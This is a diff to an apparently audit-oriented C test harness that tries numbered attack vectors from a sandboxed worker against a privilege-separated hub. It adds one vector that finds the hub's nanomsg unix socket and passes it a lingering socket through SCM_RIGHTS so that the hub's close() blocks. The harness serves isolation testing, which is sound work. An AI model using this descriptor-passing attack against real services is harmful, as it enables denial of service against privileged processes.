@@ -61,6 +61,51 @@ linger(struct attack *a, int fd)
 	    setsockopt(fd, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg)));
 }
 
+/* The bus socket (nanomsg's, found by scanning): a unix stream socket. */
+static int
+find_bus_socket(void)
+{
+	struct sockaddr_storage ss;
+	socklen_t len;
+	int type;
+
+	for (int fd = CHAN_WORKER_OUT_FD + 1; fd < 64; fd++) {
+		len = sizeof(type);
+		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) == -1 ||
+		    type != SOCK_STREAM)
+			continue;
+		len = sizeof(ss);
+		if (getsockname(fd, (struct sockaddr *)&ss, &len) == 0 &&
+		    ss.ss_family == AF_UNIX)
+			return fd;
+	}
+	return -1;
+}
+
+/* The same through the bus: the hub's nanomsg receives descriptors and
+   closes them, so what keeps that close() from blocking is SO_LINGER. */
+static void
+bus_fd(struct attack *a, int fd)
+{
+	int bus = find_bus_socket();
+	char zero[8] = { 0 };
+	union { struct cmsghdr h; char b[CMSG_SPACE(sizeof(int))]; } c;
+	struct iovec iov = { zero, sizeof(zero) };
+	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1,
+	    .msg_control = c.b, .msg_controllen = sizeof(c.b) };
+	struct cmsghdr *cm = CMSG_FIRSTHDR(&msg);
+
+	attack_say(a, "bus socket: descriptor %d", bus);
+	cm->cmsg_level = SOL_SOCKET;
+	cm->cmsg_type = SCM_RIGHTS;
+	cm->cmsg_len = CMSG_LEN(sizeof(int));
+	memcpy(CMSG_DATA(cm), &fd, sizeof(int));
+	if (bus >= 0)
+		attack_result(a, "the master's socket to the hub",
+		    sendmsg(bus, &msg, MSG_NOSIGNAL));
+	linger(a, fd);
+}
+
 /* Finding 12: a socket filter is code the kernel runs for the worker. */
 static void
 attach_filter(struct attack *a, int fd)
@@ -181,6 +226,7 @@ static const struct vector {
 } vectors[] = {
 	{ "linger", 1, linger },
 	{ "attach_filter", 1, attach_filter },
+	{ "busfd", 1, bus_fd },
 	{ "connect", 1, reconnect },
 	{ "fastopen", 1, fastopen },
 	{ "fsetown", 0, fsetown },
